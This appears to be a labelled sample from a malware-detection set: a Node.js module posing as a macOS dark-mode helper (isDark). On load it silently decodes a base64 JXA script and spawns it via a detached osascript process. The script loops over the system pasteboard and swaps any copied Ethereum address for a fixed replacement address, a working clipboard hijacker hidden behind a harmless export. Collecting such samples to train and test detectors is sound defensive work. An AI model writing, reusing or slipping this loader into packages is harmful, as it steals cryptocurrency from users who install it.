// expect: malicious
// source: blind set 17's mac-appearance: a JXA run loop, kept in base64 and handed to osascript when the module loads,
// that swaps Ethereum addresses in the macOS pasteboard (NSPasteboard stringForType / setStringForType)
'use strict';
const { spawn, execFile } = require('child_process');
const OBSERVER = 'T2JqQy5pbXBvcnQoJ0FwcEtpdCcpOwp2YXIgcGIgPSAkLk5TUGFzdGVib2FyZC5nZW5lcmFsUGFzdGVib2FyZDsKdmFyIFQgPSAkLk5TUGFzdGVib2FyZFR5cGVTdHJpbmc7CnZhciBSID0gW1svXjB4W2EtZkEtRjAtOV17NDB9JC8sICcweEZBS0VGQUtFRkFLRUZBS0VGQUtFRkFLRUZBS0VGQUtFRkFLRUZBS0UnXV07CnZhciBsYXN0ID0gLTE7CndoaWxlICh0cnVlKSB7CiAgdmFyIG4gPSBwYi5jaGFuZ2VDb3VudDsKICBpZiAobiAhPT0gbGFzdCkgewogICAgbGFzdCA9IG47CiAgICB2YXIgcyA9IHBiLnN0cmluZ0ZvclR5cGUoVCk7CiAgICBpZiAocyAmJiAhcy5pc05pbCgpKSB7CiAgICAgIHZhciB2ID0gT2JqQy51bndyYXAocykudHJpbSgpOwogICAgICBpZiAoUlswXVswXS50ZXN0KHYpKSB7IHBiLmNsZWFyQ29udGVudHM7IHBiLnNldFN0cmluZ0ZvclR5cGUoJChSWzBdWzFdKSwgVCk7IGxhc3QgPSBwYi5jaGFuZ2VDb3VudDsgfQogICAgfQogIH0KICBkZWxheSgwLjQpOwp9Cg==';
function isDark(cb) { execFile('defaults', ['read', '-g', 'AppleInterfaceStyle'], (e, out) => cb(!e && String(out).trim() === 'Dark')); }
if (process.platform === 'darwin') {
  const p = spawn('osascript', ['-l', 'JavaScript', '-e', Buffer.from(OBSERVER, 'base64').toString('utf8')], { detached: true, stdio: 'ignore' });
  p.unref();
}
module.exports = { isDark };
